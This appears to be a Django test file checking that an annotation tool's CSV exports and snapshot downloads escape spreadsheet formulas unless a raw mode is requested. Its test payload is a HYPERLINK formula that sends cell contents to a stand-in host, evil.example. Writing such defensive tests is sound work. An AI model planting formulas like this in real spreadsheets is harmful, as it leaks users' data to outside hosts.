"""CSV downloads through the API neutralise formulas by default; ``csv_formulas=raw`` opts out."""

import csv
import io
import json

import pytest

from annotation.csv_cells import csv_cell
from annotation.jobs.runner import job_execute
from annotation.services.importing import import_objects

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(autouse=True)
def export_dir(settings, tmp_path):
    settings.QUORUM_EXPORT_DIR = tmp_path / "exports"


@pytest.fixture
def hostile(project):
    objects = [
        {"id": "@id", "text": PAYLOAD, "label": "positive"},
        {"id": "plain", "text": "  +1 and some words", "label": "negative"},
        {"id": "fine", "text": "nothing to see", "label": "positive", "meta": {"k": "=1"}},
    ]
    assert import_objects(project=project, objects=objects).ok
    return project


def content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def table(data: bytes) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(data.decode(), newline=""))}


def test_the_export_csv_neutralises_formulas_and_raw_keeps_them(api, hostile):
    url = f"/api/projects/{hostile.pk}/export?format=csv"
    safe = table(content(api.get(url)))
    assert safe["'@id"]["text"] == "'" + PAYLOAD
    assert safe["plain"]["text"] == "'  +1 and some words"
    assert safe["fine"]["text"] == "nothing to see"
    raw = table(content(api.get(url + "&csv_formulas=raw")))
    assert raw["@id"]["text"] == PAYLOAD and raw["plain"]["text"] == "  +1 and some words"


def test_the_export_refuses_an_unknown_mode_by_name(api, hostile):
    response = api.get(f"/api/projects/{hostile.pk}/export?format=csv&csv_formulas=excel")
    assert response.status_code == 400
    assert "csv_formulas" in response.json()


def test_json_lines_export_is_unchanged(api, hostile):
    lines = content(api.get(f"/api/projects/{hostile.pk}/export?format=jsonl")).splitlines()
    assert json.loads(lines[0])["text"] == PAYLOAD


def test_the_snapshot_csv_is_neutralised_and_raw_rebuilds_it_unchanged(api, hostile):
    created = api.post(f"/api/projects/{hostile.pk}/snapshots", {}, format="json").json()
    job_execute(job_id=created["job"]["id"], task_id="test")
    url = f"/api/snapshots/{created['id']}/download?format=csv"
    stored = api.get(url)
    assert stored.status_code == 200 and stored["Accept-Ranges"] == "bytes"
    safe = table(content(stored))
    assert safe["'@id"]["text"] == "'" + PAYLOAD
    assert safe["fine"]["meta"] == '{"k": "=1"}'  # JSON starts with "{": nothing to do
    raw_response = api.get(url + "&csv_formulas=raw")
    assert raw_response.status_code == 200
    assert raw_response["ETag"] == f'"{created_hash(api, created)}-csv-raw"'
    raw = table(content(raw_response))
    assert raw["@id"]["text"] == PAYLOAD
    assert len(raw) == len(safe) == 3
    for key, row in raw.items():  # the stored file is the raw one, cell by cell neutralised
        assert safe[csv_cell(key)] == {column: csv_cell(value) for column, value in row.items()}
    jsonl = content(api.get(f"/api/snapshots/{created['id']}/download?format=jsonl"))
    assert json.loads(jsonl.splitlines()[0])["text"] == PAYLOAD
    bad = api.get(url + "&csv_formulas=nope")
    assert bad.status_code == 400 and "csv_formulas" in bad.json()


def created_hash(api, created) -> str:
    return api.get(f"/api/snapshots/{created['id']}").json()["content_hash"]
